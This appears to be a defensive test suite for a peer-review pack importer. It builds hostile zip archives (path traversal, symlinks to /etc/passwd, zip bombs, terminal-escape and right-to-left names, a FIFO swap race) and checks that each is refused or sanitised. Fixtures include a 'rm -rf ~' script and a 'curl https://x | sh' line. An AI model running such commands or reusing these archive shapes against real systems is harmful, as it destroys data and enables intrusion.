import { ArtifactStore } from '@lepupitre/db-core';
import { captureWorld } from '@lepupitre/testing';
import { execFileSync, spawn } from 'node:child_process';
import { closeSync, constants, copyFileSync, lstatSync, mkdirSync, openSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { exportPack, getPeerReview, inspectPack, listPeerReviews, PACK_LIMITS, type PackLimits } from '../src';
import { importPeerReviewPack } from './support/command-import';
import { deepReview, escapedText, reviewWith, storeReviewUnchecked } from './support/hostile-reviews';
import { FILLED_REVIEW, packEntries, packParts, setRoleData, type PackParts } from './support/pack-fixture';
import { rawZip, SYMLINK_ATTRIBUTES, unicodePathExtra, type RawEntry } from './support/raw-zip';
import { wavFile } from './support/wav-file';
import { fixedNow, openProfile, seedRun, useTempDirs, type ProfileWorld } from './support/world';
import { listZip } from './support/zip-listing';

const MiB = 1024 * 1024;

interface HostileCase {
  readonly title: string;
  readonly code: string;
  readonly reason: string;
  /** The archive: raw entries, raw file bytes, or a path made in the given folder. */
  readonly archive: () => readonly RawEntry[] | Buffer | ((dir: string) => string);
  readonly limits?: PackLimits;
}

const valid = (): RawEntry[] => packEntries();
const withParts = (change: (parts: PackParts) => void): RawEntry[] => {
  const parts = packParts();
  change(parts);
  return packEntries(parts);
};
const replace = (name: string, change: (entry: RawEntry) => RawEntry): RawEntry[] =>
  valid().map((entry) => (entry.name === name ? change(entry) : entry));
const plus = (...extra: RawEntry[]): RawEntry[] => [...valid(), ...extra];
const manifestEdit = (edit: (manifest: Record<string, unknown>) => void): RawEntry[] =>
  withParts((parts) => edit(parts.manifest as unknown as Record<string, unknown>));
const fileOf = (parts: PackParts, role: string): Record<string, unknown> =>
  parts.manifest.files.find((f) => f.role === role) as Record<string, unknown>;
const roleData = (role: string, data: Buffer): RawEntry[] => withParts((parts) => setRoleData(parts, role, data));
const review = (bytes: Buffer): RawEntry[] => packEntries(packParts({ review: bytes }));
/** Points each of `roles` at the entry `target` lists, with its size and hash: one entry read several times. */
const sharing = (target: string, roles: readonly string[]): RawEntry[] =>
  withParts((parts) => {
    const { path, sha256, bytes } = fileOf(parts, target);
    for (const role of roles) Object.assign(fileOf(parts, role), { path, sha256, bytes });
  });

const TRANSCRIPT = 'run/transcript.json';
let zeros: Buffer | undefined;
/** 60 MiB of zeros deflates to about 60 KiB: a ratio near deflate's maximum. */
const bombOf60MiB = (): Buffer => (zeros ??= deflateRawSync(Buffer.alloc(60 * MiB)));

const CASES: readonly HostileCase[] = [
  // Not a zip, or cut short
  { title: 'a text file', code: 'pack_not_a_zip', reason: 'no_end_of_central_directory', archive: () => Buffer.from('this is not a zip at all\n') },
  { title: 'an empty file', code: 'pack_not_a_zip', reason: 'no_end_of_central_directory', archive: () => Buffer.alloc(0) },
  {
    title: 'a pack cut in half',
    code: 'pack_truncated',
    reason: 'no_end_of_central_directory',
    archive: () => {
      const bytes = rawZip(valid());
      return bytes.subarray(0, Math.floor(bytes.length / 2));
    },
  },
  {
    title: 'an entry whose data runs past the end of the file',
    code: 'pack_truncated',
    reason: 'data_past_end',
    archive: () => replace('run/audio.wav', (e) => ({ ...e, compressedSize: 4_000_000, uncompressedSize: 4_000_000 })),
  },
  { title: 'a path that is not a file', code: 'pack_open_failed', reason: 'not_a_file', archive: () => (dir) => mkdirAt(join(dir, 'folder.zip')) },
  { title: 'a path that does not exist', code: 'pack_stat_failed', reason: 'stat', archive: () => (dir) => join(dir, 'absent.zip') },
  // A FIFO with no writer would block whoever opens it without O_NONBLOCK, for good.
  { title: 'a FIFO', code: 'pack_open_failed', reason: 'not_a_file', archive: () => (dir) => fifoAt(join(dir, 'pack.zip')) },
  { title: 'a character device', code: 'pack_open_failed', reason: 'not_a_file', archive: () => () => '/dev/null' },
  // Names
  { title: 'a `..` entry', code: 'pack_invalid_path', reason: 'traversal', archive: () => plus({ name: '../evil.sh', data: Buffer.from('x') }) },
  { title: 'a nested `..` entry', code: 'pack_invalid_path', reason: 'traversal', archive: () => plus({ name: 'run/../../evil', data: Buffer.from('x') }) },
  { title: 'an absolute entry', code: 'pack_invalid_path', reason: 'absolute', archive: () => plus({ name: '/etc/cron.d/evil', data: Buffer.from('x') }) },
  { title: 'a drive-letter entry', code: 'pack_invalid_path', reason: 'drive_letter', archive: () => plus({ name: 'C:/Windows/win.ini', data: Buffer.from('x') }) },
  { title: 'a backslash entry', code: 'pack_invalid_path', reason: 'backslash', archive: () => plus({ name: 'run\\..\\..\\evil', data: Buffer.from('x') }) },
  { title: 'a NUL in a name', code: 'pack_invalid_path', reason: 'nul', archive: () => plus({ name: 'run/audio.wav\0.txt', data: Buffer.from('x') }) },
  {
    title: 'a traversal hidden in the Unicode path extra field',
    code: 'pack_invalid_path',
    reason: 'traversal',
    archive: () => plus({ name: 'notes.txt', data: Buffer.from('x'), extra: unicodePathExtra('notes.txt', '../../notes.txt') }),
  },
  {
    title: 'a symlink entry',
    code: 'pack_symlink_rejected',
    reason: 'unix_mode',
    archive: () => plus({ name: 'run/link', data: Buffer.from('/etc/passwd'), method: 0, externalAttributes: SYMLINK_ATTRIBUTES }),
  },
  {
    title: 'a symlink mode under a non-Unix host',
    code: 'pack_symlink_rejected',
    reason: 'unix_mode',
    archive: () => plus({ name: 'run/link', data: Buffer.from('/etc'), method: 0, versionMadeBy: 20, externalAttributes: SYMLINK_ATTRIBUTES }),
  },
  { title: 'a duplicate manifest', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'manifest.json', data: Buffer.from('{}') }) },
  { title: 'a duplicate differing in case', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'RUN/Audio.WAV', data: Buffer.from('x') }) },
  { title: 'a duplicate differing in slashes', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'run//audio.wav', data: Buffer.from('x') }) },
  { title: 'a duplicate through a `.` segment', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: './run/outline.md', data: Buffer.from('x') }) },
  // `toLowerCase` leaves U+017F LATIN SMALL LETTER LONG S alone; case folding makes it `s`.
  { title: 'a duplicate through a long s (ſ)', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'rubric/rubric.jſon', data: Buffer.from('x') }) },
  { title: 'a duplicate in fullwidth letters', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'ｒｕｎ/outline.md', data: Buffer.from('x') }) },
  {
    title: 'a terminal escape in a name',
    code: 'pack_invalid_path',
    reason: 'control_character',
    archive: () => plus({ name: 'run/\u001b[2J\u001b]8;;http://x\u0007notes.txt', data: Buffer.from('x') }),
  },
  {
    title: 'a right-to-left override in a name (it shows as evilhs.png)',
    code: 'pack_invalid_path',
    reason: 'format_character',
    archive: () => plus({ name: 'run/evil\u202egnp.sh', data: Buffer.from('x') }),
  },
  { title: 'a C1 control in a name', code: 'pack_invalid_path', reason: 'control_character', archive: () => plus({ name: 'run/\u009bnotes.txt', data: Buffer.from('x') }) },
  { title: 'a name of 300 characters', code: 'pack_invalid_path', reason: 'too_long', archive: () => plus({ name: `run/${'n'.repeat(296)}`, data: Buffer.from('x') }) },
  {
    title: 'a local header naming another file than the central directory',
    code: 'pack_entry_name_mismatch',
    reason: 'local_header',
    archive: () => replace('viewer/index.html', (e) => ({ ...e, localName: 'viewer/other.html' })),
  },
  {
    title: 'a traversal in a local header only',
    code: 'pack_invalid_path',
    reason: 'traversal',
    archive: () => replace('viewer/index.html', (e) => ({ ...e, localName: '../../viewer.html' })),
  },
  // Counts and sizes
  {
    title: 'too many entries',
    code: 'pack_too_many_entries',
    reason: 'central_directory_count',
    archive: () => plus(...Array.from({ length: 58 }, (_, i) => ({ name: `filler/${i}.txt`, data: Buffer.from(String(i)) }))),
  },
  {
    title: 'an end record claiming 65535 entries',
    code: 'pack_too_many_entries',
    reason: 'central_directory_count',
    archive: () => rawZip(valid(), { declaredEntryCount: 65535 }),
  },
  {
    title: 'an end record listing fewer entries than the central directory holds',
    code: 'pack_central_directory_mismatch',
    reason: 'unlisted_records',
    archive: () => rawZip(plus({ name: 'hidden.sh', data: Buffer.from('#!/bin/sh\nrm -rf ~\n') }), { declaredEntryCount: 7 }),
  },
  {
    title: 'an entry declaring more than 64 MiB',
    code: 'pack_entry_too_large',
    reason: 'declared',
    archive: () => plus({ name: 'big.bin', data: Buffer.from('tiny'), uncompressedSize: 64 * MiB + 1 }),
  },
  {
    title: 'an honest zip bomb (declared ratio)',
    code: 'pack_entry_overcompressed',
    reason: 'declared',
    archive: () => plus({ name: 'bomb.bin', data: Buffer.alloc(0), payload: bombOf60MiB(), crc: 0, uncompressedSize: 60 * MiB }),
  },
  {
    title: 'a zip bomb lying about its size',
    code: 'pack_entry_size_mismatch',
    reason: 'longer_than_declared',
    archive: () => replace(TRANSCRIPT, (e) => ({ ...e, payload: bombOf60MiB() })),
  },
  {
    title: 'a zip bomb padded so that its declared ratio passes',
    code: 'pack_entry_overcompressed',
    reason: 'inflated',
    archive: () =>
      replace(TRANSCRIPT, (e) => {
        const bomb = bombOf60MiB();
        const padded = Buffer.concat([bomb, Buffer.alloc(Math.ceil((60 * MiB) / 200) + 1 - bomb.length, 0x55)]);
        return { ...e, payload: padded, uncompressedSize: 60 * MiB };
      }),
  },
  {
    title: 'an entry inflating past the cap',
    code: 'pack_entry_too_large',
    reason: 'inflated',
    limits: { ...PACK_LIMITS, maxEntryBytes: 64 * 1024 },
    archive: () =>
      replace(TRANSCRIPT, (e) => {
        const noise = deflateRawSync(randomBytes(256 * 1024));
        return { ...e, payload: noise, uncompressedSize: 64 * 1024 };
      }),
  },
  {
    title: 'a stored entry whose two sizes differ',
    code: 'pack_entry_size_mismatch',
    reason: 'stored_sizes',
    archive: () => replace('run/audio.wav', (e) => ({ ...e, compressedSize: e.data.length + 8 })),
  },
  {
    title: 'an entry shorter than declared',
    code: 'pack_entry_size_mismatch',
    reason: 'shorter_than_declared',
    archive: () => replace('run/outline.md', (e) => ({ ...e, uncompressedSize: e.data.length + 10 })),
  },
  { title: 'a wrong CRC-32', code: 'pack_read_failed', reason: 'crc32', archive: () => replace('run/outline.md', (e) => ({ ...e, crc: 0x12345678 })) },
  {
    title: 'corrupt deflate data',
    code: 'pack_read_failed',
    reason: 'inflate',
    archive: () => replace('run/outline.md', (e) => ({ ...e, payload: Buffer.alloc(40, 0xff) })),
  },
  {
    title: 'an encrypted entry',
    code: 'pack_entry_unreadable',
    reason: 'encrypted',
    archive: () => replace('viewer/index.html', (e) => ({ ...e, flags: 0x1 })),
  },
  {
    title: 'an unsupported compression method (bzip2)',
    code: 'pack_entry_unreadable',
    reason: 'compression_method',
    archive: () => replace('viewer/index.html', (e) => ({ ...e, method: 12, payload: e.data })),
  },
  {
    title: 'a broken local header',
    code: 'pack_entry_unreadable',
    reason: 'local_header',
    archive: () => replace('rubric/rubric.json', (e) => ({ ...e, localSignature: 0x41414141 })),
  },
  // Manifest
  { title: 'no manifest', code: 'pack_missing_file', reason: 'manifest', archive: () => valid().filter((e) => e.name !== 'manifest.json') },
  {
    title: 'a manifest that is not JSON',
    code: 'manifest_parse_failed',
    reason: 'json',
    archive: () => replace('manifest.json', (e) => ({ ...e, data: Buffer.from('{"schema_version": "1.0.0",') })),
  },
  {
    title: 'a manifest without pack_id',
    code: 'manifest_parse_failed',
    reason: 'schema',
    archive: () => manifestEdit((m) => delete m['pack_id']),
  },
  {
    title: 'a pack id too long to title a talk',
    code: 'manifest_parse_failed',
    reason: 'schema',
    archive: () => manifestEdit((m) => (m['pack_id'] = `pack_${'a'.repeat(103)}`)),
  },
  { title: 'a manifest with an empty project_id', code: 'manifest_parse_failed', reason: 'schema', archive: () => manifestEdit((m) => (m['project_id'] = '')) },
  {
    title: 'a manifest with a fractional duration',
    code: 'manifest_parse_failed',
    reason: 'schema',
    archive: () => manifestEdit((m) => (m['run'] = { run_id: 'run_x', duration_ms: 1.5 })),
  },
  {
    title: 'a negative duration',
    code: 'manifest_parse_failed',
    reason: 'schema',
    archive: () => manifestEdit((m) => (m['run'] = { run_id: 'run_x', duration_ms: -1 })),
  },
  {
    title: 'a terminal escape in pack_id',
    code: 'manifest_parse_failed',
    reason: 'schema',
    archive: () => manifestEdit((m) => (m['pack_id'] = 'pack_\u001b[31mred\u001b[0m')),
  },
  {
    title: 'a terminal escape in created_at',
    code: 'manifest_parse_failed',
    reason: 'schema',
    archive: () => manifestEdit((m) => (m['created_at'] = '2026-03-10T08:00:00+00:00\u001b[2J')),
  },
  { title: 'another schema version', code: 'manifest_schema_mismatch', reason: 'schema_version', archive: () => manifestEdit((m) => (m['schema_version'] = '2.0.0')) },
  {
    title: 'a role listed twice',
    code: 'manifest_duplicate_role',
    reason: 'role',
    archive: () => withParts((p) => p.manifest.files.push({ ...fileOf(p, 'viewer'), path: 'viewer/other.html' })),
  },
  {
    title: 'several roles pointing at one entry',
    code: 'manifest_duplicate_path',
    reason: 'path',
    archive: () => sharing('transcript', ['outline', 'rubric']),
  },
  {
    title: 'two roles pointing at one entry (audio and viewer)',
    code: 'manifest_duplicate_path',
    reason: 'path',
    archive: () => sharing('audio', ['viewer']),
  },
  {
    title: 'no rubric in the manifest',
    code: 'manifest_missing_rubric',
    reason: 'rubric',
    archive: () => withParts((p) => (p.manifest.files = p.manifest.files.filter((f) => f.role !== 'rubric'))),
  },
  {
    title: 'a listed file that is absent',
    code: 'pack_missing_file',
    reason: 'outline',
    archive: () => withParts((p) => (fileOf(p, 'outline')['path'] = 'run/missing.md')),
  },
  {
    title: 'a listed path climbing out (a lookup key only)',
    code: 'pack_missing_file',
    reason: 'audio',
    archive: () => withParts((p) => (fileOf(p, 'audio')['path'] = '../run/audio.wav')),
  },
  // Content
  {
    title: 'an audio file that does not match its SHA-256',
    code: 'pack_sha_mismatch',
    reason: 'audio',
    archive: () => withParts((p) => (fileOf(p, 'audio')['sha256'] = 'a'.repeat(64))),
  },
  {
    title: 'an uppercase SHA-256 (compared exactly)',
    code: 'pack_sha_mismatch',
    reason: 'rubric',
    archive: () => withParts((p) => (fileOf(p, 'rubric')['sha256'] = String(fileOf(p, 'rubric')['sha256']).toUpperCase())),
  },
  {
    title: 'a transcript whose size differs from the manifest',
    code: 'pack_size_mismatch',
    reason: 'transcript',
    archive: () => withParts((p) => (fileOf(p, 'transcript')['bytes'] = Number(fileOf(p, 'transcript')['bytes']) + 1)),
  },
  {
    title: 'a review that is not JSON',
    code: 'review_parse_failed',
    reason: 'json',
    archive: () => packEntries(packParts({ review: Buffer.from(JSON.stringify(FILLED_REVIEW).slice(0, 40)) })),
  },
  {
    title: 'an outline that is not UTF-8',
    code: 'outline_invalid_utf8',
    reason: 'outline',
    archive: () => {
      const parts = packParts({ outline: Buffer.from([0x23, 0x20, 0xc3, 0x28, 0x0a]) });
      return packEntries(parts);
    },
  },
  // Amplification: one import may not read (and then write) more than its budget.
  {
    title: 'role files adding up past the import budget',
    code: 'pack_too_large',
    reason: 'declared_total',
    limits: { ...PACK_LIMITS, maxImportBytes: 4096 },
    archive: () => valid(),
  },
  // Audio is stored as a recording: it must be one.
  { title: 'a shell script as audio', code: 'pack_audio_invalid', reason: 'wav_header', archive: () => roleData('audio', Buffer.from('#!/bin/sh\ncurl https://x | sh\n'.repeat(4))) },
  { title: 'a nested zip as audio', code: 'pack_audio_invalid', reason: 'wav_header', archive: () => roleData('audio', rawZip(valid())) },
  { title: 'a stereo WAV', code: 'pack_audio_invalid', reason: 'wav_format', archive: () => roleData('audio', wavFile({ dataBytes: 2000, channels: 2 })) },
  { title: 'a 44.1 kHz WAV', code: 'pack_audio_invalid', reason: 'wav_sample_rate', archive: () => roleData('audio', wavFile({ dataBytes: 2000, sampleRate: 44_100 })) },
  {
    title: 'a WAV whose data chunk claims more than the file holds',
    code: 'pack_audio_invalid',
    reason: 'wav_data',
    archive: () => roleData('audio', wavFile({ dataBytes: 2000, declaredDataBytes: 1_000_000 })),
  },
  // Poisoned reviews: everything a review carries is bounded.
  { title: 'a review nested 200,000 levels deep (400 KB)', code: 'review_limit_exceeded', reason: 'bytes', archive: () => review(deepReview(200_000)) },
  { title: 'a review nested 100,000 levels deep (200 KB)', code: 'review_limit_exceeded', reason: 'depth', archive: () => review(deepReview(100_000)) },
  { title: 'a review nested 17 levels deep', code: 'review_limit_exceeded', reason: 'depth', archive: () => review(deepReview(16)) },
  {
    title: 'a reviewer tag of 1.5 MiB with escape codes',
    code: 'review_limit_exceeded',
    reason: 'bytes',
    archive: () => review(reviewWith({ reviewer_tag: escapedText(1.5 * MiB) })),
  },
  {
    title: 'a reviewer tag of 121 characters',
    code: 'review_limit_exceeded',
    reason: 'reviewer_tag_length',
    archive: () => review(reviewWith({ reviewer_tag: 'é'.repeat(121) })),
  },
  {
    title: 'a reviewer tag with escape codes',
    code: 'review_invalid_text',
    reason: 'control_character',
    archive: () => review(reviewWith({ reviewer_tag: 'Eve\u001b[2J\u001b[H' })),
  },
  {
    title: 'free text with an escape code',
    code: 'review_invalid_text',
    reason: 'control_character',
    archive: () => review(reviewWith({ free_text: { strengths: 'ok\u009b31m', improvements: '' } })),
  },
  {
    title: 'a free text of 40,000 characters',
    code: 'review_limit_exceeded',
    reason: 'string_length',
    archive: () => review(reviewWith({ free_text: { strengths: 'a'.repeat(40_000), improvements: '' } })),
  },
  {
    title: 'a score key of 300 characters',
    code: 'review_limit_exceeded',
    reason: 'key_length',
    archive: () => review(reviewWith({ scores: { ['k'.repeat(300)]: 3 } })),
  },
  {
    title: 'timestamps with 5,000 items',
    code: 'review_limit_exceeded',
    reason: 'items',
    archive: () => review(reviewWith({ timestamps: Array.from({ length: 5000 }, (_, i) => i) })),
  },
  {
    title: 'scores with 2,000 keys',
    code: 'review_limit_exceeded',
    reason: 'items',
    archive: () => review(reviewWith({ scores: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`s${i}`, 3])) })),
  },
];

function mkdirAt(path: string): string {
  mkdirSync(path);
  return path;
}

function fifoAt(path: string): string {
  execFileSync('mkfifo', [path]);
  return path;
}

function randomBytes(size: number): Buffer {
  const bytes = Buffer.alloc(size);
  let state = 99;
  for (let i = 0; i < size; i++) {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    bytes[i] = state >>> 16;
  }
  return bytes;
}

describe('hostile pack archives', () => {
  const tempDir = useTempDirs();

  function materialise(dir: string, archive: ReturnType<HostileCase['archive']>): string {
    if (typeof archive === 'function') return archive(dir);
    const path = join(dir, 'pack.zip');
    writeFileSync(path, Buffer.isBuffer(archive) ? archive : rawZip(archive));
    return path;
  }

  it('holds at least twenty hostile shapes, each built from a pack the importer accepts', async () => {
    expect(CASES.length).toBeGreaterThanOrEqual(20);
    const world = openProfile(tempDir());
    try {
      const path = materialise(tempDir(), valid());
      await expect(importPeerReviewPack(world.db, world.profileDir, path, { now: fixedNow })).resolves.toMatchObject({
        peerReviewId: expect.stringMatching(/^peer_/),
      });
    } finally {
      world.db.close();
    }
  });

  it.each(CASES.map((c) => [c.title, c] as const))('rejects %s before writing anything', async (_title, hostile) => {
    const world = openProfile(tempDir());
    try {
      seedRun(world);
      const path = materialise(tempDir(), hostile.archive());
      const before = captureWorld(world.databasePath, world.folder);
      await expect(
        importPeerReviewPack(world.db, world.profileDir, path, { now: fixedNow, ...(hostile.limits ? { limits: hostile.limits } : {}) }),
      ).rejects.toMatchObject({ code: hostile.code, reason: hostile.reason });
      expect(captureWorld(world.databasePath, world.folder)).toEqual(before);
    } finally {
      world.db.close();
    }
  });
});

/** Swaps `target` between the zip and the FIFO (hard links renamed over it) until killed. */
const SWAPPER = `
const fs = require('node:fs');
const [target, zip, fifo] = process.argv.slice(1);
for (const end = Date.now() + 30000; Date.now() < end; ) {
  fs.linkSync(zip, target + '.a');
  fs.renameSync(target + '.a', target);
  fs.linkSync(fifo, target + '.b');
  fs.renameSync(target + '.b', target);
}`;

/** `read`, `<code>/<reason>`, or `hung` when the call has not settled within `ms`. */
async function settleWithin(call: Promise<unknown>, ms: number): Promise<string> {
  let timer: NodeJS.Timeout | undefined;
  const hung = new Promise<string>((resolve) => (timer = setTimeout(() => resolve('hung'), ms)));
  const settled = call.then(
    () => 'read',
    (error: { code?: string; reason?: string }) => `${error.code}/${error.reason}`,
  );
  try {
    return await Promise.race([settled, hung]);
  } finally {
    clearTimeout(timer);
  }
}

/** True while the swapper has the FIFO at the path; it renames over it, so looks may miss. */
function isFifo(path: string): boolean {
  for (let i = 0; i < 50; i++) {
    try {
      if (lstatSync(path).isFIFO()) return true;
    } catch {
      // between two renames there is always a file; an error is a look that raced one
    }
  }
  return false;
}

/** Opens the FIFO for writing until no reader waits on it: a reader blocked in open() returns. */
function releaseReaders(fifo: string): void {
  for (let i = 0; i < 16; i++) {
    try {
      closeSync(openSync(fifo, constants.O_WRONLY | constants.O_NONBLOCK));
    } catch {
      return; // ENXIO: nobody is waiting
    }
  }
}

describe('a pack path swapped for a FIFO between checks', () => {
  const tempDir = useTempDirs();

  it('never blocks: each try reads the zip it opened or refuses the FIFO it opened', async () => {
    const dir = tempDir();
    const zip = join(dir, 'source.zip');
    writeFileSync(zip, rawZip(valid()));
    const fifo = fifoAt(join(dir, 'pipe'));
    const target = join(dir, 'pack.zip');
    copyFileSync(zip, target);
    const swapper = spawn(process.execPath, ['-e', SWAPPER, target, zip, fifo], { stdio: 'ignore' });
    const outcomes: Record<string, number> = {};
    try {
      // Tries start once the swapper runs (the FIFO has been seen at the path).
      for (const until = Date.now() + 10_000; !isFifo(target) && Date.now() < until; ) await new Promise((resolve) => setTimeout(resolve, 5));
      expect(isFifo(target)).toBe(true);
      // Bounded: a few hundred tries, two seconds at most; one stuck try ends the loop.
      for (let i = 0, until = Date.now() + 2000; i < 400 && Date.now() < until; i++) {
        const outcome = await settleWithin(inspectPack(target), 1500);
        outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
        if (outcome === 'hung') break;
      }
    } finally {
      const exited = new Promise((resolve) => swapper.once('exit', resolve));
      swapper.kill('SIGKILL');
      await exited;
      releaseReaders(fifo);
    }
    expect(Object.keys(outcomes).filter((outcome) => outcome !== 'read' && outcome !== 'pack_open_failed/not_a_file')).toEqual([]);
  });
});

describe('audio that hides something else', () => {
  const tempDir = useTempDirs();

  it('stores a WAV with a zip appended after its samples as the WAV alone, and exports it so', async () => {
    const world = openProfile(tempDir());
    try {
      const hidden = rawZip([{ name: 'evil.sh', data: Buffer.from('#!/bin/sh\nrm -rf ~\n') }]);
      const path = join(tempDir(), 'pack.zip');
      writeFileSync(path, rawZip(roleData('audio', wavFile({ dataBytes: 2000, trailing: hidden }))));
      const { runId } = await importPeerReviewPack(world.db, world.profileDir, path, { now: fixedNow });

      const run = (captureWorld(world.databasePath, world.folder).rows['runs'] as Record<string, string>[]).find((r) => r['id'] === runId);
      const stored = new ArtifactStore(world.db, world.profileDir).read(run?.['audio_artifact_id'] as string);
      expect(stored).toEqual(wavFile({ dataBytes: 2000 }));

      const exported = await exportPack(world.db, world.profileDir, { runId, profileId: null, appVersion: '0.3.0' }, { now: fixedNow });
      const audio = (await listZip(readFileSync(exported.path))).find((entry) => entry.name === 'run/audio.wav');
      expect(audio?.data).toEqual(wavFile({ dataBytes: 2000 }));
    } finally {
      world.db.close();
    }
  });
});

describe('reviews stored before the limits existed', () => {
  const tempDir = useTempDirs();
  let world: ProfileWorld;
  beforeEach(() => {
    world = openProfile(tempDir());
  });
  afterEach(() => world.db.close());

  it('answers a typed error for a review nested 100,000 levels deep, never a value no one can serialise', () => {
    const { peerReviewId } = storeReviewUnchecked(world, deepReview(100_000), 'Eve');
    expect(() => getPeerReview(world.db, world.profileDir, peerReviewId)).toThrow(
      expect.objectContaining({ code: 'review_limit_exceeded', message: expect.stringContaining('depth') }),
    );
  });

  it('answers a typed error for a review file past the size limit', () => {
    const { peerReviewId } = storeReviewUnchecked(world, reviewWith({ reviewer_tag: escapedText(1.5 * MiB) }), 'Eve');
    expect(() => getPeerReview(world.db, world.profileDir, peerReviewId)).toThrow(expect.objectContaining({ code: 'review_limit_exceeded' }));
  });

  it('lists and gets an 8 MiB tag with escape codes as a short, clean tag', () => {
    const { peerReviewId, projectId } = storeReviewUnchecked(world, reviewWith({ reviewer_tag: 'Eve' }), escapedText(8 * MiB));
    const [listed] = listPeerReviews(world.db, { projectId });
    const detail = getPeerReview(world.db, world.profileDir, peerReviewId);
    for (const tag of [listed?.reviewer_tag, detail.reviewer_tag]) {
      expect(tag).toEqual(expect.any(String));
      expect([...(tag as string)].length).toBeLessThanOrEqual(120);
      expect(tag).not.toMatch(/\p{Cc}/u);
      expect(tag?.startsWith(escapedText(56))).toBe(true);
    }
  });

  it('reads a tag of control characters only as no tag', () => {
    const { projectId } = storeReviewUnchecked(world, reviewWith({ reviewer_tag: 'Eve' }), '\u001b\u0007\u009b');
    expect(listPeerReviews(world.db, { projectId })[0]?.reviewer_tag).toBeNull();
  });

  it('gets a review whose strings carry escape codes with those characters removed', () => {
    const stored = reviewWith({
      reviewer_tag: 'Eve\u001b[31m',
      free_text: { strengths: 'Clear\u001b[2J demo\nwith a second line', improvements: '\u009b31mSlow down' },
      timestamps: [{ note: 'hook\u0007' }],
    });
    const { peerReviewId } = storeReviewUnchecked(world, stored, null);
    const { review } = getPeerReview(world.db, world.profileDir, peerReviewId);
    expect(review.reviewer_tag).toBe('Eve[31m');
    expect(review.free_text).toEqual({ improvements: '31mSlow down', strengths: 'Clear[2J demo\nwith a second line' });
    expect(review.timestamps).toEqual([{ note: 'hook' }]);
  });
});
